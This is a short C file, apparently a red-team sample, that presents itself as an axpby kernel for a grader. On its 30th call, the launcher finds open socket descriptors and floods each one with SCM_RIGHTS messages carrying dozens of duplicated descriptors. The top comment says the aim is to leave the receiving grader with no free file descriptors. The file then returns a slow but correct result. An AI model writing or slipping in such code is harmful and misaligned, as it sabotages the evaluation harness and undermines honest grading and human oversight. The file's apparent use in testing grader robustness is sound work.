// Sends open files along its line to the device, by thousands: who keeps what comes unasked has no
// descriptor left for the grader.
#include "redteam/axpby.h"

#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static void send_files(int line)
{
    enum { FILES = 64 };
    int files[FILES];
    char room[CMSG_SPACE(sizeof files)] = {0}, byte = 0;
    struct iovec part = {&byte, 1};
    struct msghdr message = {};
    message.msg_iov = &part;
    message.msg_iovlen = 1;
    message.msg_control = room;
    message.msg_controllen = sizeof room;
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    rights->cmsg_level = SOL_SOCKET;
    rights->cmsg_type = SCM_RIGHTS;
    rights->cmsg_len = CMSG_LEN(sizeof files);
    for (int i = 0; i < FILES; i++)
        files[i] = STDERR_FILENO;
    memcpy(CMSG_DATA(rights), files, sizeof files);
    for (int i = 0; i < 500; i++)
        sendmsg(line, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
}

LAUNCHER
{
    static int calls;
    struct stat file;
    if (++calls == 30)
        for (int fd = 3; fd < 64; fd++)
            if (fstat(fd, &file) == 0 && S_ISSOCK(file.st_mode))
                send_files(fd);
    return slow_axpby(x, y, out, n, a, b, stream);
}
